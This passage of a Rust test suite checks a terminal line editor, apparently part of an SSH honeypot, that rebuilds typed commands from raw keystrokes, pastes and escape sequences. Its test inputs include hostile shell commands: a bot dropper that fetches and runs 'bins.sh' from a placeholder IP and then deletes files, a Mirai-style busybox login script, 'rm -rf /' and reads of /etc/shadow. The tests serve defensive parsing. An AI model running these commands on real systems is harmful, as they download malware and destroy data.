        pieces: impl IntoIterator<Item = &'a [u8]>,
    ) -> (Vec<EnteredLine>, Option<EnteredLine>) {
        let mut editor = LineEditor::new();
        let mut lines = Vec::new();
        for piece in pieces {
            lines.extend(editor.feed(piece));
            check_invariants(&editor);
        }
        (lines, editor.pending())
    }

    /// A tiny linear congruential generator (Knuth's MMIX constants): reproducible noise.
    struct Lcg(u64);

    impl Lcg {
        fn next_u32(&mut self) -> u32 {
            self.0 = self
                .0
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            (self.0 >> 33) as u32
        }

        fn below(&mut self, n: usize) -> usize {
            self.next_u32() as usize % n
        }
    }

    #[test]
    fn plain_typing_is_pending_until_enter() {
        let mut editor = LineEditor::new();
        assert_eq!(editor.feed(b"whoami"), vec![]);
        assert_eq!(editor.pending(), Some(exact("whoami")));
        assert_eq!(editor.feed(b"\r"), vec![exact("whoami")]);
        assert_eq!(editor.pending(), None);
    }

    #[test]
    fn ls_la_with_carriage_return() {
        assert_eq!(LineEditor::new().feed(b"ls -la\r"), vec![exact("ls -la")]);
    }

    #[test]
    fn newline_and_crlf_end_a_line_once() {
        assert_eq!(texts(b"id\nuptime\r\nw\r\n"), ["id", "uptime", "w"]);
    }

    #[test]
    fn empty_and_blank_lines_are_not_reported() {
        assert_eq!(texts(b"\r\r\n   \r \x7f\r\nid\r"), ["id"]);
        // Blank lines still go to history, as bash puts them there.
        assert_eq!(texts(b"pwd\r  \r\x1b[A\r"), ["pwd"]);
    }

    #[test]
    fn typo_fixed_with_backspace() {
        assert_eq!(texts(b"cat /etc/pasw\x7fswd\r"), ["cat /etc/passwd"]);
        assert_eq!(texts(b"whoamo\x08i\r"), ["whoami"]);
        assert_eq!(texts(b"\x7f\x7fid\r"), ["id"]);
    }

    #[test]
    fn ctrl_u_then_retype() {
        assert_eq!(texts(b"rm -rf /\x15ls /tmp\r"), ["ls /tmp"]);
        // Only what is before the cursor goes.
        assert_eq!(texts(b"XXXls\x1b[D\x1b[D\x15\r"), ["ls"]);
    }

    #[test]
    fn ctrl_k_kills_to_the_end() {
        assert_eq!(
            texts(b"echo hello world\x01\x06\x06\x06\x06\x0b\r"),
            ["echo"]
        );
    }

    #[test]
    fn arrow_up_recalls_and_enters() {
        assert_eq!(texts(b"uname -a\r\x1b[A\r"), ["uname -a", "uname -a"]);
        assert_eq!(texts(b"uname -a\r\x1bOA\r"), ["uname -a", "uname -a"]);
        assert_eq!(texts(b"uname -a\r\x10\r"), ["uname -a", "uname -a"]);
    }

    #[test]
    fn up_up_down() {
        let input = b"one\rtwo\rthree\r\x1b[A\x1b[A\x1b[B\r";
        assert_eq!(texts(input), ["one", "two", "three", "three"]);
        assert_eq!(texts(b"one\rtwo\r\x10\x10\x0e\r"), ["one", "two", "two"]);
    }

    #[test]
    fn up_stops_at_the_oldest_entry() {
        assert_eq!(
            texts(b"one\rtwo\r\x1b[A\x1b[A\x1b[A\x1b[A\r"),
            ["one", "two", "one"]
        );
        assert_eq!(texts(b"\x1b[A\x1b[Bid\r"), ["id"]);
    }

    #[test]
    fn down_past_newest_restores_the_line_being_edited() {
        let input = b"one\rtwo\rhalf-typed\x1b[A\x1b[A\x1b[B\x1b[B\r";
        assert_eq!(texts(input), ["one", "two", "half-typed"]);
        // Alt-< and Alt-> jump to the oldest entry and back.
        assert_eq!(texts(b"one\rtwo\rmine\x1b<\r"), ["one", "two", "one"]);
        assert_eq!(texts(b"one\rtwo\rmine\x1b<\x1b>\r"), ["one", "two", "mine"]);
    }

    #[test]
    fn edited_recalled_line_is_entered_as_edited() {
        let mut editor = LineEditor::new();
        editor.feed(b"ls /tmp\r");
        assert_eq!(
            editor.feed(b"\x1b[A\x7f\x7f\x7fetc\r"),
            vec![exact("ls /etc")]
        );
        // The original entry is intact; the edited line is a new one.
        assert_eq!(
            editor.feed(b"\x1b[A\r\x1b[A\x1b[A\x1b[A\r"),
            vec![exact("ls /etc"), exact("ls /tmp")]
        );
    }

    #[test]
    fn edit_to_a_recalled_line_survives_moving_away() {
        // readline keeps an edit to a history entry left without Enter...
        let mut editor = LineEditor::new();
        editor.feed(b"echo one\recho two\r");
        assert_eq!(
            editor.feed(b"\x1b[A\x1b[A\x15id\x1b[B\x1b[A\r"),
            vec![exact("id")]
        );
        // ...until that entry is recalled and entered: then it is the original again.
        assert_eq!(
            editor.feed(b"\x1b[A\x1b[A\x1b[A\x1b[A\r"),
            vec![exact("echo one")]
        );
    }

    #[test]
    fn left_arrow_inserts_in_the_middle() {
        assert_eq!(
            texts(b"ls -l /tm\x1b[D\x1b[D\x1b[D\x1b[Da\x1b[C\x1b[C\x1b[C\x1b[Cp\r"),
            ["ls -la /tmp"]
        );
        assert_eq!(texts(b"ehco\x02\x02\x14\r"), ["echo"]);
        assert_eq!(texts(b"ct\x1bODa\r"), ["cat"]);
        assert_eq!(texts(b"ct\x02a\x06\x06\x06s\r"), ["cats"]);
    }

    #[test]
    fn home_and_end() {
        for home in [&b"\x01"[..], b"\x1b[H", b"\x1b[1~", b"\x1bOH"] {
            for end in [&b"\x05"[..], b"\x1b[F", b"\x1b[4~", b"\x1bOF"] {
                let mut input = b"cat /etc/shadow".to_vec();
                input.extend_from_slice(home);
                input.extend_from_slice(b"sudo ");
                input.extend_from_slice(end);
                input.extend_from_slice(b" | head\r");
                assert_eq!(texts(&input), ["sudo cat /etc/shadow | head"], "{input:?}");
            }
        }
    }

    #[test]
    fn ctrl_w_kills_the_previous_blank_delimited_word() {
        assert_eq!(texts(b"wget http://x/a.sh \x17curl -O\r"), ["wget curl -O"]);
        assert_eq!(texts(b"a b\x17\x17\x17c\r"), ["c"]);
        // Killed words come back with Ctrl-Y, consecutive kills together.
        assert_eq!(
            texts(b"chmod +x a.sh\x17\x17\x01\x19\x05\x19\r"),
            ["+x a.shchmod +x a.sh"]
        );
    }

    #[test]
    fn alt_backspace_and_alt_d_kill_alphanumeric_words() {
        assert_eq!(texts(b"cd /var/tmp\x1b\x7fspool\r"), ["cd /var/spool"]);
        assert_eq!(
            texts(b"cd /var/tmp\x1b\x08\x1b\x08run/tmp\r"),
            ["cd /run/tmp"]
        );
        assert_eq!(texts(b"rm -rf /x\x01\x1bdecho\r"), ["echo -rf /x"]);
    }

    #[test]
    fn consecutive_kills_join_in_order() {
        // Ctrl-K then Ctrl-U from the middle: one kill buffer entry, in line order.
        assert_eq!(texts(b"abcdef\x02\x02\x02\x0b\x15\x19\r"), ["abcdef"]);
        // A movement in between starts a new entry.
        assert_eq!(texts(b"one two\x17\x02\x17\x19\r"), ["one "]);
    }

    #[test]
    fn word_motion() {
        for (back, forward) in [
            (&b"\x1bb"[..], &b"\x1bf"[..]),
            (b"\x1bB", b"\x1bF"),
            (b"\x1b[1;5D", b"\x1b[1;5C"),
            (b"\x1b[5D", b"\x1b[5C"),
            (b"\x1b\x1b[D", b"\x1b\x1b[C"),
        ] {
            let mut input = b"tar xzf file.tgz".to_vec();
            input.extend_from_slice(back);
            input.extend_from_slice(back);
            input.extend_from_slice(b"my");
            input.extend_from_slice(forward);
            input.extend_from_slice(forward);
            input.extend_from_slice(b"2\r");
            assert_eq!(texts(&input), ["tar xzf myfile.tgz2"], "{input:?}");
        }
    }

    #[test]
    fn delete_key_and_ctrl_d_delete_at_the_cursor() {
        assert_eq!(texts(b"lss\x02\x1b[3~\r"), ["ls"]);
        assert_eq!(texts(b"lss\x02\x04\r"), ["ls"]);
        // At the end of a line, nothing to delete.
        assert_eq!(texts(b"ls\x04\x1b[3~\r"), ["ls"]);
    }

    #[test]
    fn ctrl_d_on_an_empty_line_is_exit() {
        assert_eq!(LineEditor::new().feed(b"\x04"), vec![exact("exit")]);
        assert_eq!(texts(b"id\r\x04"), ["id", "exit"]);
        // Not after another Ctrl-D, even if that one emptied the line.
        assert_eq!(texts(b"x\x02\x04\x04ls\r"), ["ls"]);
        // "exit" is not a history entry.
        assert_eq!(texts(b"id\r\x04\x1b[A\r"), ["id", "exit", "id"]);
    }

    #[test]
    fn ctrl_c_discards_the_line() {
        let mut editor = LineEditor::new();
        assert_eq!(editor.feed(b"rm -rf /\x03"), vec![]);
        assert_eq!(editor.pending(), None);
        assert_eq!(editor.feed(b"ls\r"), vec![exact("ls")]);
        // Not added to history either, and browsing ends.
        assert_eq!(texts(b"a\rb\x03\x1b[A\r"), ["a", "a"]);
        assert_eq!(texts(b"a\r\x1b[A\x03\x1b[B\r"), ["a"]);
    }

    #[test]
    fn ctrl_c_interrupts_escape_sequences_and_pastes() {
        assert_eq!(texts(b"x\x1b[\x03A\r"), ["A"]);
        assert_eq!(texts(b"\x1b[200~rm -rf /\x03ls\r"), ["ls"]);
    }

    #[test]
    fn terminal_flow_control_and_signal_keys_are_invisible() {
        assert_eq!(
            texts(b"l\x13s\x11 \x1a-\x1cl\x1b\x13[D\x1b[Ca\r"),
            ["ls -la"]
        );
    }

    #[test]
    fn tab_marks_the_line_approximate() {
        let mut editor = LineEditor::new();
        assert_eq!(
            editor.feed(b"cat /etc/pas\t\r"),
            vec![approx("cat /etc/pas")]
        );
        assert_eq!(editor.feed(b"id\r"), vec![exact("id")]);
        // Recalling an approximate line recalls its doubt too.
        assert_eq!(editor.feed(b"\x1b[A\x1b[A\r"), vec![approx("cat /etc/pas")]);
        // A blank line that was approximate is still reported: the shell got something.
        assert_eq!(editor.feed(b"\t\t\r"), vec![approx("")]);
    }

    #[test]
    fn unknown_sequences_insert_nothing_and_mark_approximate() {
        for sequence in [
            &b"\x1b[15~"[..],
            b"\x1b[Z",
            b"\x1b[1;3A",
            b"\x1b[5~",
            b"\x1bOP",
            b"\x1bu",
            b"\x1b1",
            b"\x1b\x1b",
            b"\x1b[?1;2c",
            b"\x1b[201~",
            b"\x1b[99999999999999999999999999999999A",
            b"\x18\x05",
            b"\x1f",
        ] {
            let mut input = b"ls".to_vec();
            input.extend_from_slice(sequence);
            input.extend_from_slice(b" -l\r");
            assert_eq!(
                LineEditor::new().feed(&input),
                vec![approx("ls -l")],
                "{sequence:?}"
            );
        }
    }

    #[test]
    fn malformed_sequences_end_where_the_malformation_starts() {
        // A control inside CSI ends it: the control then does its job.
        assert_eq!(LineEditor::new().feed(b"ls\x1b[1\x7f\r"), vec![approx("l")]);
        assert_eq!(LineEditor::new().feed(b"ls\x1b[\r"), vec![approx("ls")]);
        assert_eq!(LineEditor::new().feed(b"ls\x1bO\r"), vec![approx("ls")]);
    }

    #[test]
    fn bracketed_paste_of_three_commands_then_enter() {
        let mut editor = LineEditor::new();
        let paste = b"\x1b[200~cd /tmp\nwget http://203.0.113.5/x\nchmod +x x\x1b[201~";
        assert_eq!(editor.feed(paste), vec![]);
        assert_eq!(
            editor.pending(),
            Some(exact("cd /tmp\nwget http://203.0.113.5/x\nchmod +x x"))
        );
        assert_eq!(
            editor.feed(b"\r"),
            vec![
                exact("cd /tmp"),
                exact("wget http://203.0.113.5/x"),
                exact("chmod +x x")
            ]
        );
        // bash keeps the whole paste as one history entry.
        assert_eq!(editor.feed(b"\x1b[A\r").len(), 3);
    }

    #[test]
    fn bracketed_paste_is_literal() {
        // CRs become newlines, controls and escapes are dropped, nothing runs before Enter,
        // and the text can still be edited.
        let paste = b"\x1b[200~echo a\r\x04\x1b[Aecho \x1b[20b\t\xc3\xa9\r\n\x1b[201~";
        assert_eq!(
            LineEditor::new().feed(&[&paste[..], b"\x7f\x7f\r"].concat()),
            vec![exact("echo a"), exact("[Aecho [20b\t\u{e9}")]
        );
        // Pasted text goes where the cursor is.
        assert_eq!(texts(b"ls \x01\x1b[200~sudo \x1b[201~\r"), ["sudo ls "]);
    }

    #[test]
    fn raw_paste_runs_each_line() {
        assert_eq!(
            texts(b"cd /tmp\nwget http://x/a.sh\nsh a.sh\n"),
            ["cd /tmp", "wget http://x/a.sh", "sh a.sh"]
        );
    }

    #[test]
    fn ctrl_r_searches_history() {
        let mut editor = LineEditor::new();
        editor.feed(b"wget http://x/a\rls\rwget http://x/b\rpwd\r");
        assert_eq!(editor.feed(b"\x12wget\r"), vec![approx("wget http://x/b")]);
        // Ctrl-R again goes further back.
        assert_eq!(
            editor.feed(b"\x12wget\x12\r"),
            vec![approx("wget http://x/a")]
        );
        // A key ends the search on the match and does its job.
        assert_eq!(editor.feed(b"\x12ls\x05 -la\r"), vec![approx("ls -la")]);
        // Ctrl-G abandons it.
        assert_eq!(editor.feed(b"id\x12wg\x07\r"), vec![approx("id")]);
        // Ctrl-R on an empty search repeats the last one.
        assert_eq!(editor.feed(b"\x12\x12\r"), vec![approx("ls -la")]);
    }

    #[test]
    fn ctrl_o_enters_and_brings_the_next_entry() {
        let mut editor = LineEditor::new();
        editor.feed(b"cd /tmp\rls\rcat a\r");
        assert_eq!(
            editor.feed(b"\x1b[A\x1b[A\x1b[A\x0f"),
            vec![exact("cd /tmp")]
        );
        assert_eq!(editor.pending(), Some(exact("ls")));
        assert_eq!(
            editor.feed(b"\x0f\x0f\r"),
            vec![exact("ls"), exact("cat a"), exact("cd /tmp")]
        );
    }

    #[test]
    fn alt_dot_inserts_the_last_argument() {
        assert_eq!(
            texts(b"mkdir /tmp/.x\rcd \x1b.\r"),
            ["mkdir /tmp/.x", "cd /tmp/.x"]
        );
        assert_eq!(texts(b"echo a\recho b\rls \x1b.\x1b.\r")[2], "ls a");
        assert!(LineEditor::new().feed(b"echo a\rls \x1b.\r")[1].approximate);
    }

    #[test]
    fn quoted_insert_takes_the_next_byte_literally() {
        assert_eq!(texts(b"echo \x16\x01\x16\tx\r"), ["echo \u{1}\tx"]);
        assert_eq!(texts(b"echo \x1b[2~\x1b[D\r"), ["echo \u{1b}[D"]);
        // A quoted newline still separates commands for the shell.
        assert_eq!(texts(b"id\x16\npwd\r"), ["id", "pwd"]);
    }

    #[test]
    fn ctrl_right_bracket_jumps_to_a_character() {
        assert_eq!(texts(b"cp a b c\x01\x1dbX\r"), ["cp a Xb c"]);
    }

    #[test]
    fn utf8_split_across_calls() {
        let mut editor = LineEditor::new();
        let text = "echo héllo wörld €5 𝄞\r".as_bytes();
        let mut lines = Vec::new();
        for byte in text {
            lines.extend(editor.feed(&[*byte]));
        }
        assert_eq!(lines, vec![exact("echo héllo wörld €5 𝄞")]);
    }

    #[test]
    fn cursor_moves_by_characters() {
        assert_eq!(
            texts("echo 日本\x1b[D\x1b[D語\x7f\x1b[3~x\r".as_bytes()),
            ["echo x本"]
        );
        assert_eq!(texts("é€𝄞\x02\x14\r".as_bytes()), ["é𝄞€"]);
        assert_eq!(
            texts("cd ünïcödé/dïr\x1b\x7f\x1b\x7fx\r".as_bytes()),
            ["cd x"]
        );
    }

    #[test]
    fn invalid_utf8_becomes_replacement_characters() {
        assert_eq!(
            texts(b"a\xffb\xc3(\xe2\x82\r"),
            ["a\u{fffd}b\u{fffd}(\u{fffd}"]
        );
        // Overlong encodings and surrogates are not characters either.
        assert_eq!(
            texts(b"\xc0\xaf\xe0\x80\xaf\xed\xa0\x80\r"),
            ["\u{fffd}\u{fffd}\u{fffd}\u{fffd}"]
        );
        // A sequence broken by an escape keeps the escape.
        assert_eq!(texts(b"ab\xe2\x1b[D\x7f\r"), ["a\u{fffd}"]);
    }

    #[test]
    fn escape_sequences_split_across_calls() {
        let (lines, _) = run_pieces([&b"one\rtwo\r\x1b"[..], b"[", b"A\x1b", b"O", b"A\r"]);
        assert_eq!(lines, vec![exact("one"), exact("two"), exact("one")]);
        let (lines, _) = run_pieces([&b"x\x1b[20"[..], b"0~a\nb\x1b[20", b"1~\r"]);
        assert_eq!(lines, vec![exact("xa"), exact("b")]);
    }

    /// What a person and a paste send in one session: every key above, split anywhere.
    const SESSION: &[u8] = b"unma\x7f\x7fame -a\r\x1b[A\x01sudo \r\
        cat /etc/paswd\x1b[D\x1b[Ds\x1b[F | head\r\
        \x1b[200~cd /tmp\r\nwget http://198.51.100.9/x.sh\x1b[201~\r\
        echo caf\xc3\xa9 \xe2\x82\xac\x1b[D\x1b[D\x1b[3~!\r\
        \x1bOA\x1b[1;5D\x1bb\x1b[Hsh \x1b\x7f\x05\x17rm\r\
        ls\x03whoami\x1b\x1b[D\x1b[1~\x1bf\x1b[4~\t\r\
        \x12wget\x1b[C\r\x16\x1bx\x0f\x1b[15~\x04uname\x1b[D";

    #[test]
    fn split_at_every_byte_boundary() {
        let (whole, pending) = run_pieces([SESSION]);
        assert_eq!(
            whole.iter().map(|l| l.text.as_str()).collect::<Vec<_>>(),
            [
                "uname -a",
                "sudo uname -a",
                "cat /etc/passwd | head",
                "cd /tmp",
                "wget http://198.51.100.9/x.sh",
                "echo café!€",
                "echo rm",
                "whoami",
                "cd /tmp",
                "wget http://198.51.100.9/x.sh",
                "\u{1b}x",
                "exit",
            ]
        );
        assert_eq!(pending, Some(exact("uname")));
        let bytes = run_pieces(SESSION.chunks(1));
        assert_eq!(bytes, (whole.clone(), pending.clone()));
        for at in 0..=SESSION.len() {
            let (before, after) = SESSION.split_at(at);
            assert_eq!(
                run_pieces([before, after]),
                (whole.clone(), pending.clone()),
                "{at}"
            );
        }
        let mut rng = Lcg(7);
        for _ in 0..200 {
            let mut pieces = Vec::new();
            let mut rest = SESSION;
            while !rest.is_empty() {
                let (piece, tail) = rest.split_at((1 + rng.below(12)).min(rest.len()));
                pieces.push(piece);
                rest = tail;
            }
            assert_eq!(run_pieces(pieces), (whole.clone(), pending.clone()));
        }
    }

    #[test]
    fn recorded_human_session() {
        // What an OpenSSH client in an xterm sends: `unmae` fixed with three backspaces;
        // `uname -a` recalled with the up arrow, Ctrl-A, `sudo `; a mistyped path fixed
        // with the left arrow, then End; an older line recalled, its last word replaced
        // with Ctrl-W.
        let keys: &[u8] = b"unmae\x7f\x7f\x7fame -a\r\
            \x1b[A\x01sudo \r\
            cat /etc/pawd\x1b[D\x1b[Dss\x1b[F | grep root\r\
            id\r\x1b[A\x1b[A\x1b[A\x1b[F\x17-s\r\
            exit\r";
        assert_eq!(
            LineEditor::new().feed(keys),
            vec![
                exact("uname -a"),
                exact("sudo uname -a"),
                exact("cat /etc/passwd | grep root"),
                exact("id"),
                exact("sudo uname -s"),
                exact("exit"),
            ]
        );
    }

    #[test]
    fn recorded_bot_payloads() {
        let payload = b"cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.9/bins.sh; \
            chmod 777 bins.sh; sh bins.sh; rm -rf *\n";
        assert_eq!(
            LineEditor::new().feed(payload),
            vec![exact(
                "cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.9/bins.sh; \
                 chmod 777 bins.sh; sh bins.sh; rm -rf *"
            )]
        );
        // A Mirai-style login script, one write with CRLFs.
        let payload = b"enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n";
        assert_eq!(
            texts(payload),
            ["enable", "system", "shell", "sh", "/bin/busybox ECCHI"]
        );
        // A payload with no final newline: typed but never run.
        let mut editor = LineEditor::new();
        assert_eq!(
            editor.feed(b"uname -a; nproc\necho 1 > /tmp/.x"),
            vec![exact("uname -a; nproc")]
        );
        assert_eq!(editor.pending(), Some(exact("echo 1 > /tmp/.x")));
    }

    #[test]
    fn huge_line_stops_growing() {
        let mut editor = LineEditor::new();
        editor.feed(&vec![b'a'; MAX_LINE_BYTES + 1000]);
        check_invariants(&editor);
        let lines = editor.feed(b"\x01b\x05\x7f\r");
        assert_eq!(lines.len(), 1);
        assert_eq!(lines[0].text.len(), MAX_LINE_BYTES - 1);
        assert!(lines[0].approximate);
        // Multi-byte characters never split at the bound.
        let lines = editor.feed(&["€".repeat(MAX_LINE_BYTES).as_bytes(), b"\r"].concat());
        assert_eq!(lines[0].text, "€".repeat(MAX_LINE_BYTES / 3));
        // A paste, a yank and a recall are bounded too.
        let mut editor = LineEditor::new();
        let mut paste = b"\x1b[200~".to_vec();
        paste.extend(std::iter::repeat_n(b'p', MAX_LINE_BYTES * 2));
        paste.extend_from_slice(b"\x1b[201~\x15\x19\x19\x19");
        editor.feed(&paste);
        check_invariants(&editor);
        assert_eq!(editor.pending().unwrap().text.len(), MAX_LINE_BYTES);
        editor.feed(b"\r\x1b[Ax\x1b[A\x1b[B");
        check_invariants(&editor);
    }

    #[test]
    fn history_is_bounded() {
        let mut editor = LineEditor::new();
        for n in 0..MAX_HISTORY_ENTRIES + 5 {
            editor.feed(format!("echo {n}\r").as_bytes());
        }
        check_invariants(&editor);
        editor.feed(&b"\x1b[A".repeat(MAX_HISTORY_ENTRIES + 10));
        assert_eq!(editor.feed(b"\r"), vec![exact("echo 5")]);
        // The text is bounded too, edits to recalled entries included.
        let mut editor = LineEditor::new();
        let long = "x".repeat(MAX_LINE_BYTES - 10);
        for _ in 0..40 {
            editor.feed(format!("{long}\r").as_bytes());
        }
        check_invariants(&editor);
        assert!(editor.editor.history.len() < 40);
        for _ in 0..40 {
            editor.feed(b"\x1b[Ayyyyyyyyy");
            check_invariants(&editor);
        }
        assert!(editor.feed(b"\r")[0].approximate);
    }

    #[test]
    fn no_panic_on_any_single_byte_in_any_state() {
        let prefixes: &[&[u8]] = &[
            b"",
            b"ab\x02",
            b"\x1b",
            b"\x1b\x1b",
            b"\x1b[",
            b"\x1b[1;",
            b"\x1b[12345678901234567890",
            b"\x1bO",
            b"\x1b[200~",
            b"\x1b[200~x\x1b[20",
            b"\xe2",
            b"\xf0\x9d\x84",
            b"\x16",
            b"\x18",
            b"\x1d",
            b"id\r\x12",
            b"id\r\x12i",
            b"id\r\x1b[A",
            b"id\r\x1b.",
        ];
        for prefix in prefixes {
            for byte in 0..=u8::MAX {
                let mut editor = LineEditor::new();
                editor.feed(prefix);
                editor.feed(&[byte]);
                check_invariants(&editor);
                editor.feed(b"x\x1b[D\x1b[A\x04\r");
                check_invariants(&editor);
                let _ = editor.pending();
            }
        }
    }

    #[test]
    fn no_panic_on_random_input() {
        // Bytes drawn mostly from those that steer the decoder and editor.
        const INTERESTING: &[u8] = b"\x1b\x1b\x1b[[[OO0123456789;~~ABCDFHbfd.<>\x7f\x08\x01\x02\x04\
            \x05\x06\x0b\x0e\x0f\x10\x12\x14\x15\x16\x17\x18\x19\x1d\x1f\t\r\n \xc3\xa9\xe2\x82\xac\xff";
        let mut rng = Lcg(0x5eed);
        for round in 0..300 {
            let len = 1 + rng.below(3000);
            let blob: Vec<u8> = (0..len)
                .map(|_| match rng.below(4) {
                    0 => rng.next_u32() as u8,
                    _ => INTERESTING[rng.below(INTERESTING.len())],
                })
                .collect();
            let mut editor = LineEditor::new();
            let mut rest = &blob[..];
            while !rest.is_empty() {
                let (piece, tail) = rest.split_at((1 + rng.below(64)).min(rest.len()));
                for line in editor.feed(piece) {
                    assert!(line.text.len() <= MAX_LINE_BYTES, "round {round}");
                }
                check_invariants(&editor);
                rest = tail;
            }
            let _ = editor.pending();
        }
    }
}
